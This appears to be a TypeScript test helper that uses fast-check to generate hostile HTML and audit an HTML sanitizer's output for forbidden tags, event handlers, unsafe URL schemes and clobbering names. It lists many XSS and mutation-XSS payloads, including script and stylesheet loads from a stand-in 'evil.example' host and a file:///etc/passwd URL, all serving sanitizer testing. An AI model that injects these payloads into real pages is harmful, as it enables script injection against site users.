/**
 * fast-check generators of hostile HTML and the audit of "clean" HTML, shared by the sanitizer
 * property and the whole-pipeline fuzz. The pieces are the payload families of reliability.md
 * S1–S10 and DOMPurify's fuzz seeds: handlers, scheme spellings, clobbering names, forbidden
 * tags, mutation-XSS classics, raw text with stray markup.
 */
import fc from 'fast-check';

const TAGS = [
  'p', 'a', 'img', 'div', 'span', 'figure', 'figcaption', 'video', 'audio', 'source', 'picture', 'table', 'td',
  'details', 'summary', 'blockquote', 'h2', 'ul', 'li', 'pre', 'code', 'svg', 'math', 'style', 'script', 'form',
  'input', 'button', 'iframe', 'object', 'embed', 'base', 'link', 'meta', 'template', 'noscript', 'textarea',
  'select', 'option', 'dialog', 'xmp', 'noembed', 'title', 'mglyph', 'mtext', 'area', 'map', 'body',
];
const VOID = new Set(['img', 'source', 'input', 'embed', 'base', 'link', 'meta', 'area']);

const ATTRS = [
  'href', 'src', 'srcset', 'onerror', 'onclick', 'onload', 'ONMOUSEOVER', 'onfocus', 'style', 'id', 'name', 'action',
  'formaction', 'poster', 'background', 'xlink:href', 'data', 'srcdoc', 'dir', 'lang', 'title', 'class', 'target',
  'rel', 'autoplay', 'autofocus', 'ping', 'cite', 'alt', 'data-x', 'form', 'http-equiv', 'content', 'usemap',
];

export const HOSTILE_VALUES = [
  'javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#x09;script:alert(1)',
  'java&#10;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript&colon;alert(1)', 'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'data:image/png;base64,iVBORw0KGgo=', 'https://a.example/x.jpg',
  'http://b.example/y?q=1&r=2', 'mailto:desk@news.example', '/relative/path', '#frag', 'alert(1)',
  'url(javascript:alert(1))', 'expression(alert(1))', 'config', 'location', 'getElementById', 'rtl', 'ar',
  '" onerror="alert(1)', "x' onload='alert(1)", '\u0000javascript:alert(1)', 'tel:+123', 'file:///etc/passwd',
  'https://a.example/a.jpg 1x, javascript:alert(1) 2x', '0;url=javascript:alert(1)', 'refresh', '_top',
];

const MXSS = [
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form id="document"><input name="cookie"></form>',
  '<img name="getElementById" src="https://a.example/i.jpg">',
  '<input name="attributes"><input name="ownerDocument">',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<img src="x" onerror="alert(1)"//>',
  '<div style="background:url(https://track.example/p.gif)">x</div>',
  '<video autoplay src="https://v.example/a.mp4" onplay="alert(1)"></video>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<script src="https://evil.example/x.js"></script>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
];

const escAttr = (s: string) => s.replace(/&(?![#a-z0-9]+;)/gi, '&amp;').replace(/"/g, '&quot;');

const attr: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...ATTRS), fc.oneof(fc.constantFrom(...HOSTILE_VALUES), fc.string({ maxLength: 10 })), fc.constantFrom('quoted', 'raw', 'bare'))
  .map(([name, value, how]) => (how === 'bare' ? name : how === 'raw' ? `${name}="${value}"` : `${name}="${escAttr(value)}"`));

const text: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 16 }),
  fc.string({ maxLength: 8, unit: 'grapheme' }),
  fc.constantFrom('Harbour reopens after storm.', 'Le marché couvert ouvre.', 'مرحبا بالعالم', 'Привет, мир', '図書館', '\u202Egnp.exe', '<', '>', '&', '"', "'", '</p>', '<!--', '-->', ']]>'),
);

export const hostileHtml: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc.constantFrom(...MXSS),
    fc.tuple(fc.constantFrom(...TAGS), fc.array(attr, { maxLength: 4 }), fc.array(tie('node'), { maxLength: 3 })).map(([tag, attrs, children]) => {
      const open = `<${tag}${attrs.map((a) => ` ${a}`).join('')}>`;
      return VOID.has(tag) ? open + children.join('') : `${open}${children.join('')}</${tag}>`;
    }),
  ),
})).node;

const FORBIDDEN = new Set([
  'SCRIPT', 'STYLE', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'OPTION', 'IFRAME', 'FRAME', 'OBJECT',
  'EMBED', 'BASE', 'LINK', 'META', 'DIALOG', 'NOSCRIPT', 'TEMPLATE', 'SVG', 'MATH',
]);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'poster', 'background', 'xlink:href', 'data', 'cite', 'longdesc', 'usemap', 'srcdoc']);
const SAFE_SCHEME = /^(?:https?|mailto):/i;
const RASTER_DATA = /^data:image\/(?:png|jpe?g|gif|webp|avif);base64,/i;

/** What a browser would see as the scheme: whitespace and controls are ignored inside it. */
function schemeOf(value: string): string | null {
  const squashed = [...value].filter((c) => c.charCodeAt(0) > 0x20).join('');
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(squashed);
  return m ? m[1]!.toLowerCase() : null;
}

function unsafeUrl(value: string, el: Element): boolean {
  const squashed = [...value].filter((c) => c.charCodeAt(0) > 0x20).join('');
  if (schemeOf(value) === null) return false;
  if (SAFE_SCHEME.test(squashed)) return false;
  return !(el.tagName === 'IMG' && RASTER_DATA.test(squashed));
}

/**
 * Every way `html` breaks the clean-HTML contract, as short strings (empty when clean). Parsed
 * by DOMParser with `doc`'s window, as an inert document: nothing loads or runs while auditing.
 */
export function auditCleanHtml(html: string, doc: Document): string[] {
  const parsed = new doc.defaultView!.DOMParser().parseFromString(html, 'text/html');
  const problems: string[] = [];
  for (const el of Array.from(parsed.querySelectorAll('*'))) {
    const tag = el.tagName.toUpperCase();
    if (FORBIDDEN.has(tag)) problems.push(`element ${tag}`);
    for (const a of Array.from(el.attributes)) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`handler ${tag}[${a.name}]`);
      else if (name === 'style') problems.push(`style ${tag}`);
      else if (URL_ATTRS.has(name) && unsafeUrl(a.value, el)) problems.push(`url ${tag}[${a.name}]=${a.value}`);
      else if (name === 'srcset' && a.value.split(',').some((c) => unsafeUrl(c.trim().split(/\s+/)[0] ?? '', el)))
        problems.push(`url ${tag}[srcset]=${a.value}`);
      else if ((name === 'id' || name === 'name') && !a.value.startsWith('user-content-')) problems.push(`clobber ${tag}[${name}=${a.value}]`);
    }
  }
  return problems;
}
